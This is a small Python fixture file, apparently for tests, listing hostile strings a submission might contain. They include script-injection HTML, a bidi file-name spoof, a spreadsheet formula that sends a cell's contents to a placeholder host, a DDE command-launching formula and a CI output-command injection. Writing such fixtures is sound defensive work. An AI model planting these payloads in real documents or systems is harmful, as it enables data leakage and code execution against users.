"""Hostile texts that may occur in a hand-in: as names, file names, messages."""

TEXTS = {
    "script": "<script>alert(1)</script>",
    "end of style": "</style></title><script>alert(1)</script>",
    "attribute": "\" onload='alert(1)' x=\"",
    "entity": "&lt;b&gt; &amp; & &#0;",
    "CDATA": "a]]>b<![CDATA[c",
    "comment": "--><!--",
    "NUL": "a\x00b\x08\x1b[31m\x7f\x9b",
    "bidi": "ada\u202egnp.zip\u2066x",
    "surrogate": "caf\ud800e",
    "formula": '=HYPERLINK("http://x.example/?"&A1,"click")',
    "formula behind a semicolon": "a;=1+1",
    "formula behind blanks": " \t@SUM(1)",
    "full-width formula": "\uff1dHYPERLINK(1);\uff0b1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "lines": "a\r\n=1\n::set-output name=x::y",
    "long": "Ada " * 50,
    "quotes": 'Lovelace, "Ada"; née Byron',
    "not a character": "a\uffffb\ufffe",
}
